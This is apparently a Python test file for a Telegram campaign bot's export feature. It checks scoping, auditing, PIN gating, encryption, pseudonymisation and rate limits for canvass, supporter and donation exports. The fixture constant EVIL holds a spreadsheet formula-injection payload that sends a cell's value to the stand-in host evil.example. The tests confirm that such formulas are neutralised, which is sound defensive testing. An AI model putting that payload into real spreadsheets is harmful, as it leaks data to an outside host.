"""/export canvass | supporters | donations: a coordinator's file of what the candidates in
their scope collected — scoped, audited, behind the PIN, encrypted by default, safe to open
in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select

from bot.db.models import AuditEntry
from bot.db.models.addresses import Building
from bot.db.models.canvass import CanvassVisit
from bot.db.models.fund import DonorType, EntryKind, Flag, FundEntry
from bot.services import anomalies
from tests.conftest import RunningBot
from tests.fake_telegram import VirtualUser
from tests.test_directory import enrol
from tests.test_export import download, unzip_export
from tests.test_gates import add_supporters
from tests.test_supporters_bot import cipher_of, district_of

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def candidate_id(running: RunningBot, user: VirtualUser) -> int:
    async with running.app.uow_factory() as uow:
        candidate = await uow.candidates.by_user(user.user_id)
        assert candidate is not None
        return candidate.id


async def add_note(
    running: RunningBot,
    user: VirtualUser,
    street: str,
    *,
    note: str,
    resident: str,
    phone: str,
) -> None:
    """A confirmed canvass note of the candidate, at a building of their own."""
    cipher = cipher_of(running)
    owner = await candidate_id(running, user)
    async with running.app.uow_factory() as uow:
        election = await uow.geography.current_election()
        assert election is not None
        building = Building(
            election_id=election.id, street=street, house="5", address_key=f"{street}|5"
        )
        uow.session.add(building)
        await uow.session.flush()
        uow.session.add(
            CanvassVisit(
                candidate_id=owner,
                building_id=building.id,
                apartment="12",
                outcome="supporter",
                topics=["yards", "parking"],
                note_enc=cipher.encrypt(note),
                follow_up=True,
                contact_name_enc=cipher.encrypt(resident),
                contact_phone_enc=cipher.encrypt(phone),
            )
        )
        await uow.commit()


async def add_donation(
    running: RunningBot, user: VirtualUser, donor: str, amount_kop: int, *, flagged: bool = False
) -> None:
    cipher = cipher_of(running)
    owner = await candidate_id(running, user)
    async with running.app.uow_factory() as uow:
        uow.session.add(
            FundEntry(
                candidate_id=owner,
                kind=EntryKind.DONATION,
                amount_kop=amount_kop,
                booked_on=date(2026, 7, 1),
                donor_type=DonorType.CITIZEN,
                donor_name_enc=cipher.encrypt(donor),
                note_enc=cipher.encrypt("пожертвование"),
                flag=Flag.OVER_CAP if flagged else None,
                return_kop=50_000 if flagged else 0,
                return_due=date(2026, 7, 11) if flagged else None,
            )
        )
        await uow.commit()


async def exports(running: RunningBot) -> list[AuditEntry]:
    async with running.app.uow_factory() as uow:
        return list(
            await uow.session.scalars(
                select(AuditEntry)
                .where(AuditEntry.action.in_(("export", "supporters_exported")))
                .order_by(AuditEntry.id)
            )
        )


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


async def two_campaigns(running: RunningBot) -> tuple[VirtualUser, VirtualUser]:
    ours, theirs = running.user(), running.user()
    await enrol(ours, "Своя Анна", "Союз соседей", "Гавань")
    await enrol(theirs, "Чужая Вера", "Гражданская инициатива", "Парнас")
    await add_note(
        running, ours, "Ленина", note=EVIL, resident="Житель Иван", phone="+79111234567"
    )
    await add_note(
        running,
        theirs,
        "Садовая",
        note="чужая заметка",
        resident="Чужой Пётр",
        phone="+79990000000",
    )
    await add_donation(running, ours, "@Донорова Мария", 120_000, flagged=True)
    await add_donation(running, theirs, "Чужой Донор", 300_000)
    return ours, theirs


async def test_a_coordinator_exports_canvass_and_donations_of_their_organisation_only(
    running: RunningBot,
) -> None:
    await two_campaigns(running)
    coordinator = await running.coordinator("org:neighbours")
    await running.gated(coordinator, "/export canvass csv plain")
    await coordinator.expect("без шифрования")
    sent = await coordinator.expect("Заметок обхода: 1")
    assert sent["document"]["file_name"].endswith(".csv")
    header, *rows = csv_rows(await download(running, sent))
    assert header[1] == "Кандидат" and len(rows) == 1
    (row,) = rows
    assert row[1] == "Своя Анна" and row[2] == "Гавань" and "Ленина" in row[4]
    assert row[5:9] == ["12", "👍 Сторонник", "Дворы, Парковка", "✓"]
    assert row[9:11] == ["Житель Иван", "'+79111234567"]
    assert row[11] == "'" + EVIL  # the formula is shown, never run
    text = ",".join(rows[0])
    assert "Чужая" not in text and "Садовая" not in text and "Чужой" not in text

    await running.gated(coordinator, "/export donations plain")
    await coordinator.expect("без шифрования")
    sent = await coordinator.expect("Операций по фондам: 1")
    assert sent["document"]["file_name"].endswith(".xlsx")
    sheet = load_workbook(io.BytesIO(await download(running, sent))).active
    assert sheet is not None and sheet.title == "Фонды"
    (line,) = list(sheet.iter_rows(min_row=2, values_only=True))
    assert line[1:7] == ("Своя Анна", "2026-07-01", "поступление", 1200, "Гражданин", line[6])
    assert line[6] == "@Донорова Мария" and sheet["G2"].data_type == "s"  # text, not a formula
    assert line[7] == "сверх лимита, вернуть" and line[8] == 500 and line[9] == "2026-07-11"

    entries = await exports(running)
    assert [(e.actor_id, e.subject_type, e.details) for e in entries] == [
        (coordinator.user_id, "canvass", {"rows": 1, "format": "csv", "mode": "plain"}),
        (coordinator.user_id, "donations", {"rows": 1, "format": "xlsx", "mode": "plain"}),
    ]


async def test_donor_names_in_csv_are_neutralised_and_nothing_outside_scope_is_sent(
    running: RunningBot,
) -> None:
    await two_campaigns(running)
    coordinator = await running.coordinator("org:neighbours")
    await running.gated(coordinator, "/export donations csv plain")
    rows = csv_rows(await download(running, await coordinator.expect("Операций по фондам: 1")))
    assert rows[1][6] == "'@Донорова Мария" and rows[1][4] == "1200.00"
    # The other organisation's coordinator gets their own campaign's note, not ours.
    other = await running.coordinator("org:civic")
    await running.gated(other, "/export canvass csv plain")
    rows = csv_rows(await download(running, await other.expect("Заметок обхода: 1")))
    assert rows[1][1] == "Чужая Вера" and "Ленина" not in ",".join(rows[1])
    # Someone whose organisation has no candidates gets nothing at all, not an empty file.
    outsider = await running.coordinator("org:green")
    for kind in ("canvass", "donations", "candidates"):
        await running.gated(outsider, f"/export {kind} plain")
        await outsider.expect("Выгружать нечего")
    assert {e.actor_id for e in await exports(running)} == {coordinator.user_id, other.user_id}


async def test_pseudonymised_exports_hide_residents_and_donors(running: RunningBot) -> None:
    await two_campaigns(running)
    admin = running.admin()
    await running.gated(admin, "/export canvass csv pseudo")
    _, *rows = csv_rows(await download(running, await admin.expect("Заметок обхода: 2")))
    text = "\n".join(",".join(r) for r in rows)
    for secret in ("Своя Анна", "Житель Иван", "+79111234567", "HYPERLINK", "чужая заметка"):
        assert secret not in text
    assert {r[1][:2] for r in rows} == {"К-"} and "'+7 911 ***-**-67" in {r[10] for r in rows}
    assert {r[9] for r in rows} == {""} and {r[11] for r in rows} == {""}
    await running.gated(admin, "/export donations csv pseudo")
    _, *rows = csv_rows(await download(running, await admin.expect("Операций по фондам: 2")))
    assert {r[6] for r in rows} == {""} and sorted(float(r[4]) for r in rows) == [1200, 3000]
    assert [e.details["mode"] for e in await exports(running)] == ["pseudo", "pseudo"]


async def test_by_default_the_new_kinds_leave_as_encrypted_archives(running: RunningBot) -> None:
    await two_campaigns(running)
    admin = running.admin()
    await running.gated(admin, "/export donations")
    sent = await admin.expect("Операций по фондам: 2")
    assert sent["document"]["file_name"].endswith(".zip")
    assert "Донорова".encode() not in await download(running, sent)
    sheet = load_workbook(io.BytesIO(await unzip_export(running, admin, sent))).active
    assert sheet is not None
    donors = {row[6] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert donors == {"@Донорова Мария", "Чужой Донор"}
    assert (await exports(running))[-1].details["mode"] == "encrypted"


async def test_supporters_through_export_follow_the_supporters_visibility(
    running: RunningBot,
) -> None:
    await add_supporters(running, await district_of(running, "Гавань"), 2)
    cipher = cipher_of(running)
    async with running.app.uow_factory() as uow:
        from bot.services import supporters

        await supporters.add_supporter(
            uow,
            cipher,
            name="Парнасова Ирина",
            phone="+79215559999",
            district_id=await district_of(running, "Парнас"),
            consents={"contact": True},
            source="canvass:99",
        )
    coordinator = await running.coordinator('mf:"Гавань"')
    await running.gated(coordinator, "/export supporters csv plain")
    sent = await coordinator.expect("Сторонников: 2")
    header, *rows = csv_rows(await download(running, sent))
    assert header[-1] == "sources" and len(rows) == 2
    assert {r[1] for r in rows} == {"Сторонникова Анна"}
    assert sorted(r[2] for r in rows) == ["'+79215550000", "'+79215550001"]
    assert "Парнасова" not in ",".join(header + [c for r in rows for c in r])
    (entry,) = await exports(running)
    assert entry.action == "supporters_exported" and entry.actor_id == coordinator.user_id
    assert entry.details == {"rows": 2, "via": "export", "mode": "plain"}
    await running.gated(coordinator, "/export supporters")
    sent = await coordinator.expect("Сторонников: 2")
    sheet = load_workbook(io.BytesIO(await unzip_export(running, coordinator, sent))).active
    assert sheet is not None and sheet.title == "Сторонники" and sheet.max_row == 3


async def test_the_new_kinds_need_staff_and_the_pin(running: RunningBot) -> None:
    ours, _ = await two_campaigns(running)
    await ours.send("/export donations")
    await ours.expect("Не знаю такой команды")
    coordinator = await running.coordinator("org:neighbours")
    await coordinator.send("/export canvass")
    await coordinator.expect("Сначала задайте PIN")
    await coordinator.send("/export fund")
    await coordinator.expect("Формат: /export candidates|canvass|supporters|donations")
    assert await exports(running) == []


async def test_the_new_kinds_count_against_the_hourly_export_limit(running: RunningBot) -> None:
    await two_campaigns(running)
    coordinator = await running.coordinator("org:neighbours")
    for command in ("canvass", "donations", "canvass csv", "donations csv"):
        await running.gated(coordinator, f"/export {command} pseudo")
        await coordinator.expect("записана в журнал")
    await running.gated(coordinator, "/export supporters pseudo")  # nothing to see: still read
    await coordinator.expect("Выгружать нечего")
    assert len(await exports(running)) == anomalies.EXPORTS.limit
    await coordinator.send("/export candidates pseudo")
    await coordinator.expect("Слишком много обращений")
    await coordinator.quiet()  # no PIN asked, no file
    async with running.app.uow_factory() as uow:
        alerts = list(
            await uow.session.scalars(select(AuditEntry).where(AuditEntry.action == "anomaly"))
        )
    assert [(a.subject_id, a.details["rule"]) for a in alerts] == [
        (str(coordinator.user_id), "exports")
    ]
